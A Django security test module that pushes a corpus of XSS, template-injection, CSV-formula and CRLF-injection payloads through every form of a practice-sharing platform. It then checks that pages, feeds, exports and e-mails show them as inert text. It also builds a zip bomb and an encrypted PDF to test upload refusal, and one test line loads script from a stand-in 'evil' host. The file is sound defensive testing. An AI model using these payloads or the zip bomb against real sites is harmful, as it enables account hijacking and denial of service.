"""Hostile input: what people type or upload never acts on the people who read it.

1. XSS. A corpus of classic payloads is written, through the forms the platform uses, into every
   text field a person can fill in: practices (every field, their documents' titles), moderators'
   notes, comments and reasons, country profiles, the names of invited delegates, meetings, agenda
   items, meeting documents, presentations and declarations, uptake stories, deliverable events,
   spreadsheet imports, and the search box. Then every place that shows them is read back: public
   pages, workspace and staff pages, Atom feeds, CSV and JSON exports, the API, iCalendar files and
   the e-mails sent. An HTML page is inert when no element carries an on* handler, no script runs
   but our own static files, no link or source takes a javascript:, vbscript: or data: address, no
   frame, object or <style> of someone else's appears, and what was typed shows as text.

2. Uploads. Hostile files are posted to every upload (practice documents, meeting documents, the
   spreadsheet import): each is refused next to its field with a clear message, leaving no row and
   no file behind; real documents are still accepted.
"""

import csv
import gzip
import io
import json
import re
import struct
import uuid
import zipfile
import zlib
from collections import Counter
from dataclasses import dataclass, field
from datetime import timedelta
from functools import cache
from html.parser import HTMLParser
from typing import Callable
from xml.etree import ElementTree

import openpyxl
import pytest
from django.conf import settings
from django.core import mail
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, TestCase
from django.urls import reverse
from django.utils import timezone
from icalendar import Calendar

from countries.models import Country, Membership
from meetings import services as meeting_services
from meetings.models import CallToAction, Deliverable, Mandate, Meeting, MeetingDocument, UptakeStory
from practices import dataset, imports, opendata
from practices import services as practice_services
from practices.models import Attachment, ImportBatch, Practice, PracticeRevision
from tests.conftest import PASSWORD, edit_base, make_member

# --- The XSS corpus ---


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


PAYLOADS = [
    Payload("script-tag", '<script>alert("xss")</script>'),
    Payload("img-onerror", "<img src=x onerror=alert(1)>"),
    Payload("svg-onload", "<svg/onload=alert(1)>"),
    Payload("attribute-breakout", '"><script>alert(1)</script>'),
    Payload("single-quote-breakout", "' autofocus onfocus='alert(1)' x='"),
    Payload("unquoted-attribute-breakout", "x onmouseover=alert(1) y="),
    Payload("textarea-and-title-breakout", "</textarea></title><img src=x onerror=alert(1)>"),
    Payload("template-injection", '{{ 7|add:42 }} {% now "Y" %} {% debug %} ${7*7} #{7*7}'),
    Payload("markdown-javascript-link", "[click me](javascript:alert(1))"),
    Payload("markdown-data-link", "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Payload("markdown-tricks", '<javascript:alert(1)> ![x](x" onerror="alert(1)) [ref][1]\n\n[1]: javascript:alert(1)'),
    Payload("markdown-raw-html-link", '<a href="jav&#x09;ascript:alert(1)">tab</a> <a href="&#106;avascript&#58;alert(1)">entities</a>'),
    Payload("iframe-and-object", '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="data:text/html,x"></object>'),
    Payload("css-expression", '<style>@import "javascript:alert(1)";</style><div style="width:expression(alert(1))">css</div>'),
    Payload("unicode-tricks", "＜script＞alert(1)＜/script＞ \u202egnp.exe \u200bjava\u200bscript:alert(1) \ufeff<b>bold</b>"),
    Payload("mutation-xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Payload("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    Payload("cdata-breakout", "]]></summary><script>alert(1)</script><![CDATA["),
    Payload("csv-formula", "=cmd|' /C calc'!A0"),
    # A line break where a header (e-mail) or a property (iCalendar) ends.
    Payload("crlf-injection", "Subject line\r\nBcc: attacker@example.org\r\nATTENDEE:mailto:attacker@example.org"),
]
BY_NAME = {payload.name: payload for payload in PAYLOADS}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


def one_line(text):
    return " ".join(text.split())


def as_stored(text):
    """Text as the platform keeps it: line breaks as \\n."""
    return text.replace("\r\n", "\n")


# --- Is an HTML page inert? ---

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "poster", "background", "data", "srcset", "lowsrc", "ping", "cite",
    "longdesc", "manifest", "codebase",
}
# Our templates write none of these: one in a page came from what someone typed.
FOREIGN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "style", "math", "mglyph"}


class Inspector(HTMLParser):
    """Reads a page's tags and text: notes whatever could run, and collects what it shows."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.shown = []
        self.inside = None  # "script" or "style", whose content is not text

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            value = value or ""
            self.shown.append(value)
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>: an event handler")
            elif name == "srcdoc":
                self.problems.append(f"<{tag} srcdoc>: a document inside an attribute")
            elif name in URL_ATTRIBUTES:
                # Browsers skip spaces and control characters around and inside a scheme.
                address = re.sub(r"[\x00-\x20]", "", value).lower()
                if address.startswith(DANGEROUS_SCHEMES):
                    self.problems.append(f"<{tag} {name}={value!r}>: a {address.split(':')[0]}: address")
            elif name == "style" and re.search(r"expression|javascript|url\(", value, re.I):
                self.problems.append(f"<{tag} style={value!r}>: an active style")
        if tag == "script":
            if not (attributes.get("src") or "").startswith("/static/"):
                self.problems.append(f"<script {attributes}>: not one of our static scripts")
            self.inside = "script"
        elif tag in FOREIGN_ELEMENTS:
            self.problems.append(f"<{tag}>: an element no template writes")
            if tag == "style":
                self.inside = "style"
        elif tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")

    def handle_endtag(self, tag):
        if tag == self.inside:
            self.inside = None

    def handle_data(self, data):
        if self.inside == "script" and data.strip():
            self.problems.append(f"inline script: {data.strip()[:80]!r}")
        elif self.inside is None:
            self.shown.append(data)


def inspect_html(html):
    """(problems, shown): what could run in the page, and its text and attribute values on one line."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems, one_line(" ".join(inspector.shown))


def test_the_inspector_sees_what_would_run():
    # The checks below are only as good as the inspector: it must catch each way a payload could act.
    page = (
        '<script src="/static/vendor/htmx/htmx.min.js"></script><p title="&lt;b&gt;">&lt;img src=x onerror=alert(1)&gt;</p>'
    )
    problems, shown = inspect_html(page)
    assert problems == [] and "<img src=x onerror=alert(1)>" in shown
    for raw in [
        "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<script>alert(1)</script>", '<script src="//evil/x.js"></script>',
        '<a href=" jav&#x09;ascript:alert(1)">x</a>', '<a href="DATA:text/html,x">x</a>', '<iframe srcdoc="x"></iframe>',
        '<div style="width:expression(alert(1))">', "<style>*{}</style>", '<meta http-equiv="refresh" content="0;url=x">',
    ]:
        assert inspect_html(raw)[0], raw


# --- Files ---

PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n"
)
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63600000000200"
    "01e221bc330000000049454e44ae426082"
)
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def zip_of(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


DOCX = zip_of({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "<w:document><w:body><w:p/></w:body></w:document>"})


@cache
def zip_bomb(expanded_megabytes, part="word/document.xml"):
    """An Office-shaped zip whose part truly expands to `expanded_megabytes` MB of zeros, and says so, in ~1/1000 the size."""
    megabyte = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    # After a full flush the compressor starts afresh: every megabyte of zeros compresses to the same bytes.
    block = compressor.compress(megabyte) + compressor.flush(zlib.Z_FULL_FLUSH)
    deflated = block * (expanded_megabytes - 1) + compressor.compress(megabyte) + compressor.flush()
    crc = 0
    for _ in range(expanded_megabytes):
        crc = zlib.crc32(megabyte, crc)
    header = CONTENT_TYPES.encode()
    # (name, method, crc, compressed data, expanded size): a stored content-types part, then the bomb.
    entries = [("[Content_Types].xml", 0, zlib.crc32(header), header, len(header)), (part, 8, crc, deflated, expanded_megabytes << 20)]
    body, directory = b"", b""
    for name, method, checksum, data, size in entries:
        encoded = name.encode()
        sizes = (checksum, len(data), size, len(encoded))
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0, *sizes, 0, 0, 0, 0, 0, len(body)) + encoded
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, *sizes, 0) + encoded + data
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return body + directory + end


def test_the_zip_bomb_is_honest_and_tiny():
    # The archive declares its true size: refusing it must come from reading what it declares.
    bomb = zip_bomb(200)
    assert len(bomb) < 400_000
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert archive.getinfo("word/document.xml").file_size == 200 << 20
        with archive.open("word/document.xml") as part:
            assert part.read(1 << 20) == bytes(1 << 20)


def encrypted_pdf():
    return PDF.replace(
        b"trailer << /Root 1 0 R >>",
        b"3 0 obj << /Filter /Standard /V 1 /R 2 /O (0123456789abcdef0123456789abcdef)"
        b" /U (0123456789abcdef0123456789abcdef) /P -4 >> endobj\n"
        b"trailer << /Root 1 0 R /Encrypt 3 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] >>",
    )


def multipart(fields, files):
    """A multipart/form-data body with file names exactly as given (the test client would tidy them)."""
    boundary = uuid.uuid4().hex
    parts = []
    for name, value in fields.items():
        parts += [f"--{boundary}".encode(), f'Content-Disposition: form-data; name="{name}"'.encode(), b"", str(value).encode()]
    for name, (filename, data) in files.items():
        parts += [
            f"--{boundary}".encode(),
            f'Content-Disposition: form-data; name="{name}"; filename="'.encode() + filename.encode() + b'"',
            b"Content-Type: application/octet-stream",
            b"",
            data,
        ]
    parts += [f"--{boundary}--".encode(), b""]
    return b"\r\n".join(parts), f"multipart/form-data; boundary={boundary}"


def upload(name, data):
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


# --- The world: every payload through every form ---


def _errors_of(response):
    context = getattr(response, "context", None)
    if not context:
        return ""
    return {key: value.errors for key, value in context.flatten().items() if getattr(value, "is_bound", False)}


@dataclass
class Actor:
    """A person with their own browser. Each POST runs what waits for the commit: the e-mails."""

    user: object = None
    client: Client = field(default_factory=Client)

    def __post_init__(self):
        if self.user is not None:
            self.client.force_login(self.user)

    def post(self, path, data=None, *, expect=302):
        with TestCase.captureOnCommitCallbacks(execute=True):
            response = self.client.post(path, data or {})
        assert response.status_code == expect, f"POST {path}: {response.status_code} {_errors_of(response)}"
        return response


def latest_revision(practice):
    return PracticeRevision.objects.filter(practice_id=practice["pk"]).latest("number")


def pk_from(response):
    return int(re.search(r"/(\d+)/(?:edit/)?$", response["Location"]).group(1))


THEME = "access-to-finance"
PRACTICE_TEXT_FIELDS = [
    "title", "summary", "description", "problem", "objectives", "implementation", "results", "challenges", "transferability",
    "responsible_institution", "contact_name",
]
# Shown as plain text (the description is Markdown: rendered, then sanitised).
PRACTICE_PLAIN_FIELDS = [name for name in PRACTICE_TEXT_FIELDS if name not in ("description", "contact_name")]


def indicator_of(text):
    return one_line(text).replace("|", "¦")


def practice_form(text, **extra):
    return {
        **dict.fromkeys(PRACTICE_TEXT_FIELDS, text),
        "indicators": f"{indicator_of(text)} | {indicator_of(text)} | 2024",
        "level": "national",
        "themes": [THEME],
        "implementation_status": "ongoing",
        "start_year": "2020",
        "links": "https://example.org/practice",
        "original_language": "en",
        "contact_email": "contact@example.org",
        **extra,
    }


def next_payload(payload):
    return PAYLOADS[(PAYLOADS.index(payload) + 1) % len(PAYLOADS)]


def file_name_of(payload):
    """A file name made of the payload, as a browser sends it (no folder separators)."""
    return re.sub(r'[/\\"\r\n]', "_", payload.text)[:100] + ".pdf"


@dataclass
class World:
    moderator: object
    focal_ke: object
    contributor_co: object
    call: object
    deliverable: object
    # For each payload's name:
    practices: dict = field(default_factory=dict)  # published; a new version (the next payload) in review
    snapshots: dict = field(default_factory=dict)  # label -> (response, texts it shows): pages that exist for a while only
    profiles: dict = field(default_factory=dict)  # a country whose profile holds the payload
    meetings: dict = field(default_factory=dict)  # public, with an agenda item, a document, Kenya's presentation
    stories: dict = field(default_factory=dict)  # Colombia's published uptake story
    stories_sent_back: dict = field(default_factory=dict)
    rejected: object = None  # a practice rejected with every payload as reason
    rejected_story: object = None  # the same, for an uptake story
    import_batch: object = None
    emails: list = field(default_factory=list)


def build_world(moderator, focal_ke, contributor_co):
    # The Call to Action is written by ITC in the admin: its Markdown holds every payload too.
    every_payload = "\n\n".join(payload.text for payload in PAYLOADS)
    call = CallToAction.objects.create(slug="call-to-action", title="Call to Action", text=every_payload, adopted_on="2025-07-10")
    mandate = Mandate.objects.create(call=call, kind=Mandate.Kind.EXPERTISE, title="Expertise", description=every_payload)
    deliverable = Deliverable.objects.create(mandate=mandate, title="NDC guideline", description=every_payload)
    world = World(moderator, focal_ke, contributor_co, call, deliverable)
    staff, kenya, colombia = Actor(moderator), Actor(focal_ke), Actor(contributor_co)
    countries = list(Country.objects.exclude(iso2__in=["KE", "CO"]).order_by("iso2")[: len(PAYLOADS)])

    for number, payload in enumerate(PAYLOADS):
        text = payload.text
        # Invited by Kenya's focal point, a delegate opens an account with the payload as name and job title.
        email = f"delegate{number}@example.org"
        kenya.post(reverse("countries:invite_member", kwargs={"iso2": "KE"}), {"email": email, "role": "contributor"})
        [invitation] = [message for message in mail.outbox if email in message.to]
        author = Actor()
        author.post(re.search(r"https?://[^/\s]+(/\S+)", invitation.body).group(1),
                    {"full_name": text, "job_title": text, "password1": PASSWORD, "password2": PASSWORD})

        # A practice with a document, published with a note; a new version sent back with a comment, then resubmitted.
        response = author.post(reverse("practices:practice_create", kwargs={"iso2": "KE"}), {**practice_form(text), "save": ""})
        practice = {"iso2": "KE", "pk": pk_from(response)}
        author.post(reverse("practices:attachment_add", kwargs=practice), {"title": text, "file": upload(file_name_of(payload), PDF)})
        author.post(reverse("practices:practice_submit", kwargs=practice))
        staff.post(reverse("practices:review_publish", kwargs={"pk": latest_revision(practice).pk}), {"evidence_label": "", "note": text})
        author.post(reverse("practices:practice_revise", kwargs=practice))
        author.post(reverse("practices:practice_edit", kwargs=practice), {**practice_form(next_payload(payload).text), "base": edit_base(Practice.objects.get(pk=practice["pk"])), "submit": ""})
        staff.post(reverse("practices:review_request_changes", kwargs={"pk": latest_revision(practice).pk}), {"comment": text})
        # The form, with the comment above it, exists only until the version is resubmitted: read it now.
        world.snapshots[f"practice form sent back ({payload.name})"] = (
            author.client.get(reverse("practices:practice_edit", kwargs=practice)), [text, next_payload(payload).text]
        )
        author.post(reverse("practices:practice_submit", kwargs=practice))
        world.practices[payload.name] = Practice.objects.get(pk=practice["pk"])

        # A country's profile, written by ITC in that country's workspace.
        country = countries[number]
        staff.post(
            reverse("countries:profile_edit", kwargs={"iso2": country.iso2}),
            {"responsible_institution": text, "policy_overview": text, "website": "https://example.org/ministry",
             "public_contact_name": text, "public_contact_email": "sme@example.org"},
        )
        world.profiles[payload.name] = country

        # A public meeting with an agenda item, a document and Kenya's presentation (confirmed).
        day = timezone.localdate() + timedelta(days=30 + number)
        response = staff.post(
            reverse("meetings:staff_meeting_create"),
            {"title": text, "slug": "", "kind": "technical", "format": "hybrid", "time_zone": "Africa/Nairobi",
             "starts_at": f"{day}T09:00", "ends_at": f"{day}T17:00", "place": text, "description": text, "outcome": text},
        )
        meeting = Meeting.objects.get(pk=pk_from(response))
        staff.post(reverse("meetings:staff_meeting_publish", kwargs={"pk": meeting.pk}))
        staff.post(reverse("meetings:staff_agenda_add", kwargs={"pk": meeting.pk}), {"agenda-title": text, "agenda-speakers": text})
        staff.post(
            reverse("meetings:staff_document_add", kwargs={"pk": meeting.pk}),
            {"document-kind": "agenda", "document-title": text, "document-file": upload(file_name_of(payload), PDF)},
        )
        in_workspace = {"iso2": "KE", "pk": meeting.pk}
        kenya.post(
            reverse("meetings:workspace_presentation", kwargs=in_workspace), {"title": text, "summary": text, "practices": [practice["pk"]]}
        )
        staff.post(reverse("meetings:staff_presentation_confirm", kwargs={"pk": meeting.presentations.get().pk}))
        world.meetings[payload.name] = meeting

        # Colombia's uptake stories of Kenya's practice: one published with a note, one sent back with a comment.
        story_form = {"title": text, "institution": text, "story": text, "submit": ""}
        story_form.update(used_deliverable=deliverable.pk, used_practice=practice["pk"])
        decisions = (("cta_story_publish", "note", world.stories), ("cta_story_request_changes", "comment", world.stories_sent_back))
        for decision, note_field, kept in decisions:
            response = colombia.post(reverse("meetings:cta_story_create", kwargs={"iso2": "CO"}), story_form)
            story = UptakeStory.objects.get(pk=pk_from(response))
            staff.post(reverse(f"meetings:{decision}", kwargs={"pk": story.pk}), {note_field: text})
            kept[payload.name] = story

        # A step of the deliverable, recorded by ITC.
        staff.post(
            reverse("meetings:cta_deliverable_event", kwargs={"pk": deliverable.pk}),
            {"happened_on": "2025-09-01", "title": text, "description": text, "meeting": meeting.slug, "link": "https://example.org/step"},
        )

    # Notes that take long text hold every payload at once: the reasons for rejecting a practice (the last
    # delegate's) and a story, an archived and restored practice's notes, a declined endorsement's and
    # participation's notes.
    response = author.post(reverse("practices:practice_create", kwargs={"iso2": "KE"}), {**practice_form(PAYLOADS[0].text), "submit": ""})
    world.rejected = Practice.objects.get(pk=pk_from(response))
    staff.post(reverse("practices:review_reject", kwargs={"pk": world.rejected.revisions.get().pk}), {"reason": every_payload})
    first_practice = {"iso2": "KE", "pk": world.practices[PAYLOADS[0].name].pk}
    kenya.post(reverse("practices:practice_archive", kwargs=first_practice), {"note": every_payload})
    staff.post(reverse("practices:practice_restore", kwargs=first_practice), {"note": every_payload})
    kenya.post(reverse("meetings:cta_declare_endorsement", kwargs={"iso2": "KE"}), {"endorsed_on": "2025-07-10"})
    staff.post(reverse("meetings:cta_decline_endorsement", kwargs={"pk": call.endorsements.get().pk}), {"note": every_payload})
    response = colombia.post(reverse("meetings:cta_story_create", kwargs={"iso2": "CO"}), {**story_form, "title": PAYLOADS[0].text})
    world.rejected_story = UptakeStory.objects.get(pk=pk_from(response))
    staff.post(reverse("meetings:cta_story_reject", kwargs={"pk": world.rejected_story.pk}), {"reason": every_payload})
    first_meeting = {"iso2": "KE", "pk": world.meetings[PAYLOADS[0].name].pk}
    kenya.post(reverse("meetings:workspace_participation", kwargs=first_meeting), {"delegates": "3"})
    participation = world.meetings[PAYLOADS[0].name].participations.get()
    staff.post(reverse("meetings:staff_participation_decline", kwargs={"pk": participation.pk}), {"note": every_payload})

    # A spreadsheet of Colombian practices, a row per payload; and rows whose every cell is a payload (errors).
    output = io.StringIO()
    writer = csv.writer(output)
    writer.writerow(["country", "title", "summary", "description", "results", "themes", "level", "contact_name"])
    for payload in PAYLOADS:
        writer.writerow(["CO", payload.text, payload.text, payload.text, payload.text, THEME, "national", payload.text])
    for payload in PAYLOADS:
        writer.writerow([payload.text, payload.text, "", "", "", payload.text, payload.text, ""])
    response = staff.post(reverse("practices:import_start"), {"file": upload("practices.csv", output.getvalue().encode())})
    world.import_batch = ImportBatch.objects.get(pk=pk_from(response))
    staff.post(reverse("practices:import_confirm", kwargs={"pk": world.import_batch.pk}))
    world.emails = list(mail.outbox)
    return world


@pytest.fixture
def world(country_a, country_b, moderator, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    # Each role wears a payload as name: it shows wherever their actions are recorded.
    moderator.full_name = BY_NAME["script-tag"].text
    moderator.save(update_fields=["full_name"])
    focal_ke = make_member(country_a, "focal.ke@example.org", Membership.Role.FOCAL_POINT, BY_NAME["img-onerror"].text)
    make_member(country_b, "focal.co@example.org", Membership.Role.FOCAL_POINT, BY_NAME["svg-onload"].text)
    contributor_co = make_member(country_b, "contributor.co@example.org", Membership.Role.CONTRIBUTOR, BY_NAME["mutation-xss"].text)
    return build_world(moderator, focal_ke, contributor_co)


# --- Where the payloads show ---


@dataclass
class Page:
    """A page, who reads it, and the texts it must show as text."""

    label: str
    path: Callable  # world -> path
    reader: str | None = None  # an attribute of World, or None for an anonymous visitor
    shows: Callable = lambda world: []
    marks: bool = False  # words found are marked (<mark>): the one element the page builds from what was typed


@dataclass
class PayloadPage:
    """A page for one payload's objects: (world, payload) -> path, and -> texts it shows."""

    label: str
    path: Callable
    reader: str | None = None
    shows: Callable = lambda world, payload: []


def published_content(payload):
    return [payload.text for _field in PRACTICE_PLAIN_FIELDS] + [indicator_of(payload.text)]


def the_payload(world, payload):
    return [payload.text]


def every_payload(world):
    return [payload.text for payload in PAYLOADS]


def every_title(queryset):
    """Shows: the titles of what the query finds (read when the page is)."""
    return lambda world: list(queryset().values_list("title", flat=True))


def url(name, **kwargs):
    return reverse(name, kwargs=kwargs)


PAYLOAD_PAGES = [
    # Public pages
    PayloadPage(
        "practice page", lambda w, p: url("practices:practice_detail", pk=w.practices[p.name].pk), "contributor_co",
        # Every plain-text field, the indicator, the document's title; a signed-in delegate also sees the contact person.
        shows=lambda w, p: [*published_content(p), p.text, p.text],
    ),
    PayloadPage("country page", lambda w, p: url("countries:country_detail", iso2=w.profiles[p.name].iso2), shows=the_payload),
    PayloadPage(
        "meeting page", lambda w, p: url("meetings:meeting_detail", slug=w.meetings[p.name].slug),
        # Title, place, agenda item and its speakers, document, presentation and its summary.
        shows=lambda w, p: [p.text] * 7,
    ),
    PayloadPage("uptake story page", lambda w, p: url("meetings:cta_story", pk=w.stories[p.name].pk), shows=the_payload),
    # A country's workspace
    PayloadPage(
        "workspace practice page", lambda w, p: url("practices:workspace_detail", iso2="KE", pk=w.practices[p.name].pk), "focal_ke",
        # The version in review (the next payload), and the notes, the author's name and the document's title (the payload).
        shows=lambda w, p: [*published_content(next_payload(p)), p.text],
    ),
    PayloadPage("comparison of versions", lambda w, p: url("practices:version_compare", iso2="KE", pk=w.practices[p.name].pk), "focal_ke"),
    PayloadPage(
        "country profile form", lambda w, p: url("countries:profile_edit", iso2=w.profiles[p.name].iso2), "moderator", shows=the_payload
    ),
    PayloadPage(
        "uptake story in the workspace", lambda w, p: url("meetings:cta_story_workspace", iso2="CO", pk=w.stories[p.name].pk), "contributor_co",
        shows=the_payload,
    ),
    PayloadPage(
        "uptake story form sent back", lambda w, p: url("meetings:cta_story_edit", iso2="CO", pk=w.stories_sent_back[p.name].pk),
        "contributor_co", shows=the_payload,
    ),
    # ITC staff
    PayloadPage(
        "review page with its changes", lambda w, p: url("practices:review", pk=w.practices[p.name].revisions.latest("number").pk),
        "moderator", shows=lambda w, p: [next_payload(p).text, p.text],
    ),
    PayloadPage("staff meeting page", lambda w, p: url("meetings:staff_meeting", pk=w.meetings[p.name].pk), "moderator", shows=the_payload),
    PayloadPage("meeting form", lambda w, p: url("meetings:staff_meeting_edit", pk=w.meetings[p.name].pk), "moderator", shows=the_payload),
    PayloadPage(
        "agenda item form",
        lambda w, p: url("meetings:staff_agenda_edit", pk=w.meetings[p.name].pk, item_id=w.meetings[p.name].agenda.get().pk),
        "moderator", shows=the_payload,
    ),
    PayloadPage("uptake story review", lambda w, p: url("meetings:cta_story_review", pk=w.stories[p.name].pk), "moderator", shows=the_payload),
]


def compared(start):
    """The public comparison of four practices, from the start-th payload's."""
    return Page(
        f"comparison of practices {start + 1}-{start + 4}",
        lambda w: url("practices:compare") + "?" + "&".join(f"p={w.practices[p.name].pk}" for p in PAYLOADS[start : start + 4]),
        shows=lambda w: [p.text for p in PAYLOADS[start : start + 4]],
    )


def kenya_region(level):
    return lambda w: url("countries:region_detail", slug=getattr(Country.objects.get(iso2="KE"), level).slug)


PAGES = [
    # Public pages
    Page("home", lambda w: url("home"), shows=every_title(lambda: Practice.objects.published().order_by("-published_at", "-pk")[:6])),
    Page("country list", lambda w: url("countries:country_list")),
    Page("Kenya's page", lambda w: url("countries:country_detail", iso2="KE"), shows=every_title(lambda: Practice.objects.published())),
    Page("regions", lambda w: url("countries:region_map")),
    Page("Kenya's region", kenya_region("region")),
    Page("Kenya's sub-region", kenya_region("subregion")),
    Page("browse", lambda w: url("practices:browse") + "?sort=title", shows=every_title(lambda: Practice.objects.published())),
    # A word of most payloads: the results show snippets with the word marked.
    Page("search results with snippets", lambda w: url("practices:browse") + "?q=alert", marks=True),
    *[compared(start) for start in range(0, len(PAYLOADS), 4)],
    Page("meetings", lambda w: url("meetings:meeting_list"), shows=every_title(lambda: Meeting.objects.all())),
    Page("Call to Action", lambda w: url("meetings:call_to_action"), shows=every_title(lambda: UptakeStory.objects.published())),
    Page("open data", lambda w: url("practices:open_data")),
    # Kenya's and Colombia's workspaces (the delegates' names are payloads)
    Page("Kenya's workspace", lambda w: url("countries:workspace", iso2="KE"), "focal_ke", shows=every_payload),
    Page("Kenya's team", lambda w: url("countries:team", iso2="KE"), "focal_ke", shows=every_payload),
    Page("Kenya's team history", lambda w: url("countries:history", iso2="KE"), "focal_ke"),
    Page("rejected practice", lambda w: url("practices:workspace_detail", iso2="KE", pk=w.rejected.pk), "focal_ke", shows=every_payload),
    Page(
        "archived and restored practice", lambda w: url("practices:workspace_detail", iso2="KE", pk=w.practices[PAYLOADS[0].name].pk),
        "focal_ke", shows=lambda w: every_payload(w) * 2,
    ),
    Page(
        "rejected uptake story", lambda w: url("meetings:cta_story_workspace", iso2="CO", pk=w.rejected_story.pk), "contributor_co",
        shows=every_payload,
    ),
    Page("Kenya's practices", lambda w: url("practices:workspace_list", iso2="KE"), "focal_ke", shows=every_payload),
    Page("Kenya's meetings", lambda w: url("meetings:workspace_meeting_list", iso2="KE"), "focal_ke", shows=every_payload),
    Page("Kenya's Call to Action", lambda w: url("meetings:cta_workspace", iso2="KE"), "focal_ke"),
    Page("Colombia's Call to Action", lambda w: url("meetings:cta_workspace", iso2="CO"), "contributor_co", shows=every_payload),
    Page("Colombia's imported practices", lambda w: url("practices:workspace_list", iso2="CO"), "contributor_co", shows=every_payload),
    # ITC staff
    Page("staff dashboard", lambda w: url("countries:staff_dashboard"), "moderator"),
    Page("review queue", lambda w: url("practices:review_queue"), "moderator", shows=lambda w: [next_payload(p).text for p in PAYLOADS]),
    Page("staff meetings", lambda w: url("meetings:staff_meeting_list"), "moderator", shows=every_title(lambda: Meeting.objects.all())),
    Page("staff Call to Action", lambda w: url("meetings:cta_staff"), "moderator"),
    Page("uptake stories to review", lambda w: url("meetings:cta_story_queue"), "moderator"),
    Page("deliverable and its timeline", lambda w: url("meetings:cta_deliverable", pk=w.deliverable.pk), "moderator", shows=every_payload),
    Page("imports", lambda w: url("practices:import_start"), "moderator"),
    Page("import preview", lambda w: url("practices:import_preview", pk=w.import_batch.pk), "moderator", shows=every_payload),
]


def every_page(world):
    """(label, reader, texts it shows, a function answering the page) for every page of the world."""
    clients = {}

    def reading(path, reader, marks=False):
        def read():
            if reader not in clients:
                clients[reader] = Actor(getattr(world, reader) if reader else None).client
            response = clients[reader].get(path)
            assert ("<mark>" in response.content.decode()) == marks
            return response

        return read

    for page in PAGES:
        yield page.label, page.reader, page.shows(world), reading(page.path(world), page.reader, page.marks)
    for page in PAYLOAD_PAGES:
        for payload in PAYLOADS:
            yield f"{page.label} ({payload.name})", page.reader, page.shows(world, payload), reading(page.path(world, payload), page.reader)
    for label, (response, texts) in world.snapshots.items():
        yield label, "its author", texts, lambda response=response: response


def not_shown(shown, texts):
    """The texts not shown as text, as many times as listed."""
    return [text for text, times in Counter(texts).items() if shown.count(one_line(text)) < times]


def test_every_page_shows_the_corpus_as_inert_text(world, subtests):
    for label, reader, texts, read in every_page(world):
        with subtests.test(page=label):
            response = read()
            path = response.request["PATH_INFO"]
            assert response.status_code == 200, f"{path}: {response.status_code}"
            problems, shown = inspect_html(response.content.decode())
            assert problems == [], f"{path} as {reader or 'anonymous'}:\n" + "\n".join(problems)
            assert not_shown(shown, texts) == [], f"{path} as {reader or 'anonymous'} does not show as text"
    feeds_exports_and_api(world, subtests)
    calendars(world, subtests)
    emails(world, subtests)


# --- Feeds, exports, the API, calendars ---


# The elements of a feed's entry: a payload cannot add one.
ENTRY_ELEMENTS = {"title", "link", "published", "updated", "author", "id", "summary", "category"}


def feeds_exports_and_api(world, subtests):
    client = Client()
    published = {practice.pk: practice for practice in Practice.objects.published()}
    kenya = Country.objects.get(iso2="KE")
    feeds = {
        "latest": reverse("practices:feed_latest"),
        "country": reverse("practices:feed_country", kwargs={"iso2": "KE"}),
        "region": reverse("practices:feed_region", kwargs={"slug": kenya.region.slug}),
        "theme": reverse("practices:feed_theme", kwargs={"slug": THEME}),
        "search": reverse("practices:feed_search") + "?q=alert",
    }
    atom = "{http://www.w3.org/2005/Atom}"
    for name, path in feeds.items():
        with subtests.test(feed=name):
            response = client.get(path)
            assert response.status_code == 200
            # A payload that broke out of its element would leave the XML malformed, or add elements.
            root = ElementTree.fromstring(response.content)
            entries = root.findall(f"{atom}entry")
            assert entries
            for entry in entries:
                practice = published[int(re.search(r"/practices/(\d+)/", entry.find(f"{atom}id").text).group(1))]
                assert entry.find(f"{atom}title").text == practice.title
                assert {child.tag.removeprefix(atom) for child in entry} <= ENTRY_ELEMENTS
                summary = entry.find(f"{atom}summary")
                assert summary.get("type") == "html"
                problems, shown = inspect_html(summary.text)
                assert problems == [] and one_line(practice.summary) in shown

    with subtests.test(export="csv"):
        response = client.get(reverse("practices:export_csv"))
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
        assert len(rows) == len(published)
